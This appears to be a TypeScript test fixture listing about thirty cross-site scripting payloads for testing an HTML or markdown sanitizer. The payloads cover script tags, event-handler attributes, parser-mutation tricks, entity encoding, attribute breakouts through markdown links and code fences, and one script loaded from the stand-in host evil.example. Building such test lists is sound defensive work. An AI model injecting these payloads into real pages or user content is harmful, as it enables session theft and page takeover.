import type { HostileAnswer } from './hostile-answer.ts';

/** HTML that would run as it is parsed, or at the first touch. */
export const SCRIPTS: readonly HostileAnswer[] = [
  { tries: 'runs a script', text: '<script>owned = 1</script>' },
  { tries: 'runs a script in mixed case, with a space', text: '<ScRiPt >owned = 1</sCrIpT >' },
  { tries: 'loads a script', text: 'Text <script src="https://evil.example/a.js"></script> text' },
  { tries: 'runs a module', text: '<script type="module">globalThis.owned = 1</script>' },
  { tries: 'leaves the script open', text: 'Before\n\n<script>owned = 1\n\nAfter' },
  {
    tries: 'nests one script in another, for a filter to make',
    text: '<scr<script>ipt>owned = 1</scr</script>ipt>',
  },
  { tries: 'runs as an image fails', text: '<img src=x onerror="owned = 1">' },
  { tries: 'runs as an image fails, in a paragraph', text: 'Here <img src=x onerror=owned=1> it is' },
  { tries: 'runs with slashes in the place of spaces', text: '<img/src=x/onerror=owned=1>' },
  { tries: 'runs as a body loads', text: '<body onload="owned = 1">' },
  { tries: 'runs as a video fails', text: '<video><source onerror="owned = 1"></video>' },
  { tries: 'runs as sound fails', text: '<audio src=x onerror=owned=1>' },
  {
    tries: 'runs as details are opened',
    text: '<details open ontoggle="owned = 1"><summary>More</summary></details>',
  },
  { tries: 'runs as a field takes the focus', text: '<input autofocus onfocus="owned = 1">' },
  { tries: 'runs as a marquee starts', text: '<marquee onstart="owned = 1">news</marquee>' },
  {
    tries: 'runs as an animation ends',
    text: '<style>@keyframes x{}</style><b style="animation:x 1s" onanimationend="owned=1">x</b>',
  },
  { tries: 'runs as somebody points at it', text: '<a href="#" onmouseover="owned = 1">look</a>' },
  {
    tries: 'runs as a popover shows',
    text: '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=owned=1>x</p>',
  },
  {
    tries: 'writes its tag in entities',
    text: '&lt;script&gt;owned = 1&lt;/script&gt; &#60;img src=x onerror=owned=1&#62;',
  },
  { tries: 'hides a script in a comment that ends early', text: '<!--><script>owned = 1</script>-->' },
  { tries: 'hides a script in a CDATA section', text: '<![CDATA[<script>owned = 1</script>]]>' },
  {
    tries: 'hides a script in a title that is closed',
    text: '<title></title><script>owned = 1</script></title>',
  },
  { tries: 'mutates in noscript', text: '<noscript><p title="</noscript><img src=x onerror=owned=1>">' },
  { tries: 'mutates in a template', text: '<template><img src=x onerror=owned=1></template>' },
  {
    tries: 'mutates in a select',
    text: '<select><style></select><img src=x onerror=owned=1></style></select>',
  },
  { tries: 'mutates in a table', text: '<table><tr><td><script>owned = 1</script></table>' },
  { tries: 'closes the element that it stands in', text: '</p></div></article><script>owned = 1</script>' },
  {
    tries: 'breaks out of an attribute by its text',
    text: '[x](https://example.com/"onmouseover="owned=1) ![" onerror="owned=1](x)',
  },
  {
    tries: 'breaks out of an attribute by a title',
    text: '[x](https://example.com "\\" onmouseover=\\"owned=1")',
  },
  {
    tries: 'breaks out of a class by a code block’s language',
    text: '```"><img src=x onerror=owned=1>\nx\n```',
  },
  {
    tries: 'breaks out of code',
    text: '```html\n</code></pre><script>owned = 1</script>\n```\n\n`</code><script>owned = 1</script>`',
  },
  {
    tries: 'cuts a tag with a null character',
    text: '<scr\u0000ipt>owned = 1</script> <img\u0000 src=x onerror=owned=1>',
  },
  { tries: 'names an element of its own', text: '<x-owned onclick="owned = 1" is="owned">x</x-owned>' },
];
